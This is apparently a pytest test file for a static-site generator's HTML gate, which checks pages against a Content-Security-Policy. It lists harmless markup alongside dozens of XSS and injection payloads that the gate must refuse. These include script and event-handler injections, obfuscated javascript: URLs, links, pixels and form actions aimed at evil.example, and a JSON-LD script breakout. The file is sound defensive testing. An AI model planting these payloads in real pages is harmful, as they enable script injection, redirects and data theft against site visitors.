"""What the gate lets pass in a page, and what not."""

from __future__ import annotations

import pytest

from generator.gate.page import Pages
from generator.policy import Policy, digest_source

POLICY = Policy(
    {
        "default-src": "'none'",
        "script-src": "'self'",
        "style-src": "'self'",
        "img-src": "'self' data: https://pictures.example",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
    }
)
META = f'<meta http-equiv="Content-Security-Policy" content="{POLICY.in_page()}">'
PAGE = """<!doctype html>
<html lang="en" class="no-js">
<head>
{meta}
<meta charset="utf-8">
<title>A &lt;title&gt;</title>
<link rel="stylesheet" href="../assets/main.css">
<script src="../assets/theme.js"></script>{head}
</head>
<body>
<article class="md-content__inner md-typeset">
<h1 id="_title">Title</h1>
{text}
<script type="application/ld+json">{data}</script>
</article>
<script id="__config" type="application/json">{{"a": 1}}</script>
</body>
</html>
"""
DATA = '{"@context":"https://schema.org","@type":"WebPage","url":"../"}'


def faults(text: str = "", *, head: str = "", data: str = DATA, meta: str = META) -> list[str]:
    """What is said of a page with this in it."""
    page = PAGE.format(text=text, head=head, data=data, meta=meta)
    pages = Pages(POLICY, frozenset({"assets/theme.js"}))
    found = list(pages.faults(page.encode()))
    # A page that was refused is refused again, and one that passed passes, whatever is known now.
    assert sorted(pages.faults(page.encode())) == sorted(found)
    return [words for _, words in found]


HARMLESS = [
    '<p class="a" id="_b" lang="uk" dir="auto" data-a="b" aria-label="c">text &lt; 5 > 3</p>',
    '<a href="https://news.example/a?b=1&amp;c" rel="noopener nofollow ugc">out</a>',
    '<a href="https&#58;//news.example/">out</a> <a href="mailto:a@b.example">mail</a>',
    '<blockquote cite="https://news.example/"><p>words</p></blockquote>',
    '<a href="../statements/a/#_b">in</a> <a href="#_c">here</a> <a href="">this page</a>',
    '<img src="../assets/images/a.png" alt="" loading="lazy">',
    '<img src="https://pictures.example/a.png" alt="allowed by the policy">',
    '<table><tr><td align="right">1</td></tr></table><br><hr>',
    '<svg viewBox="0 0 8 8" aria-hidden="true"><path d="M0 0z" marker-end="url(#_a)"/></svg>',
    '<details>\n<summary>more</summary>\n<p\n class="x">on two lines</p></details>',
    "<!-- a note of the writer -->",
    '<p><span data-record="a/b" data-field="c">a text, and nothing else</span><b>beside it</b></p>',
    '<form action="../search/" method="get"><input type="search" name="q"></form>',
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_templates_write_passes(text: str) -> None:
    assert faults(text) == []


PLANTED = [
    "<script>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script src="https://evil.example/a.js"></script>',
    '<script src="../assets/theme.js"></script>',  # ours, but no text holds a script
    '<script type="module">alert(1)</script>',
    '<script type="application/ld+json" src="x"></script>',
    '<img src="a.png" onerror="alert(1)">',
    '<img src="a.png"\nonerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="a.png"onerror="alert(1)">',
    '<p ONCLICK="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JavaScript&#58;alert(1)">x</a>',
    '<a href="java&#9;script&colon;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="https://user:pass@evil.example/">x</a>',
    '<a href="https&#58;//bank.example&#64;evil.example/">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    '<a href="//bank.example@evil.example/">x</a>',
    '<a href="../" ping="https://evil.example/">x</a>',
    '<blockquote cite="javascript&#58;alert(1)">x</blockquote>',
    '<p style="color: red">x</p>',
    "<style>p { color: red }</style>",
    '<img src="https://evil.example/pixel.png" alt="">',
    '<img src="//evil.example/pixel.png" alt="">',
    '<img src="data:image/png;base64,AAAA" alt="">',
    '<img srcset="https://evil.example/pixel.png 2x" alt="">',
    '<iframe src="../"></iframe>',
    '<object data="a.swf"></object>',
    '<embed src="a.swf">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="q"></form>',
    '<form action="../search/"><button formaction="https://evil.example/">x</button></form>',
    '<input type="image" src="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="import" href="../a.html">',
    '<link href="https://evil.example/">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><image href="https://evil.example/a.png"></image></svg>',
    '<svg><use href="#a"></use></svg>',
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    '<svg><a><set attributeName="href" to="javascript:alert(1)"></set></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<svg><rect fill="url(https://evil.example/a.svg#b)"></rect></svg>',
    '<svg onload="alert(1)"></svg>',
    "<math><mtext></mtext></math>",
    '<video src="https://evil.example/a.mp4"></video>',
    "<textarea></textarea>",
    "<plaintext>",
    "<marquee>x</marquee>",
    "<custom-element></custom-element>",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "<!-- a --><!-->",
    "<!-- <p> -->",
    "<!doctype svg>",
    "a < b",
    "a <",
    "</p",
    "<p",
    '<p title="a > b">x</p>',
    "<p title='a'>x</p>",
    "<p class=a>x</p>",
    "<title>x<b>y</b></title>",
    '<span data-field="claim">a <b>bold</b> claim</span>',
    '<p data-record="a/b" data-field="claim">\n<a href="https://evil.example/">x</a></p>',
]


@pytest.mark.parametrize("text", PLANTED)
def test_what_runs_loads_or_leads_elsewhere_is_refused(text: str) -> None:
    assert faults(text), text


@pytest.mark.parametrize(
    "data",
    [
        '{"@context":"https://schema.org","name":"</script><script>alert(1)</script>"}',
        '{"@context":"https://schema.org","name":"a & b"}',
        '{"@context":"https://evil.example","name":"a"}',
        '{"@context":"https://schema.org","url":"javascript:alert(1)"}',
        '{"@context":"https://schema.org","@graph":[{"about":{"\\u0075rl":" data:text/html,x"}}]}',
        '{"@context":"https://schema.org","<b>":"a"}',
        '{"@context":"https://schema.org","__proto__":{}}',
        '["https://schema.org"]',
        "alert(1)",
    ],
)
def test_structured_data_is_data(data: str) -> None:
    assert faults(data=data)


def test_the_policy_stands_before_all_that_it_is_for() -> None:
    script = '<script src="../assets/theme.js"></script>'
    assert faults(meta="")
    assert faults(meta=f"{script}\n{META}")
    assert faults(meta=META.replace("'none'", "*"))
    assert faults(meta=f"<!-- {META.strip('<>')} -->")


def test_a_script_of_the_theme_has_to_be_there() -> None:
    assert faults(head='\n<script src="../assets/other.js"></script>')
    assert faults(head='\n<script src="../assets/images/theme.js"></script>')
    assert faults(head='\n<script src="../../../sub/assets/theme.js" defer></script>') == []


def test_an_inline_script_passes_if_the_policy_names_it() -> None:
    script = "let a = 1 && 2;\nlet b = `é`;"
    allowed = Policy({"script-src": f"'self' {digest_source(script)}"})
    page = PAGE.format(
        text="",
        head=f"<script>{script}</script>",
        data=DATA,
        meta=META.replace(POLICY.in_page(), allowed.in_page()),
    ).replace('<link rel="stylesheet" href="../assets/main.css">', "")
    scripts = frozenset({"assets/theme.js"})
    assert list(Pages(allowed, scripts).faults(page.encode())) == []
    assert list(Pages(allowed, scripts).faults(page.replace("1 &&", "1 ||").encode()))


def test_a_fault_is_told_with_its_line() -> None:
    page = PAGE.format(text='<p onclick="x">', head="", data=DATA, meta=META)
    ((line, words),) = Pages(POLICY, frozenset({"assets/theme.js"})).faults(page.encode())
    assert page.splitlines()[line - 1] == '<p onclick="x">'
    assert "onclick" in words


def test_what_is_known_of_one_page_does_not_help_another() -> None:
    """A line that is harmless before the text of a page is none inside of it."""
    pages = Pages(POLICY, frozenset({"assets/theme.js"}))
    sound = PAGE.format(text="<p>a</p>", head="", data=DATA, meta=META)
    assert list(pages.faults(sound.encode())) == []
    moved = sound.replace("<p>a</p>", '<script src="../assets/theme.js"></script>')
    assert list(pages.faults(moved.encode()))
    cut = sound.replace("<p>a</p>", "<p>a</p")
    assert list(pages.faults(cut.encode()))
    open_title = sound.replace("<title>A &lt;title&gt;</title>", "<title>A")
    assert list(pages.faults(open_title.encode()))
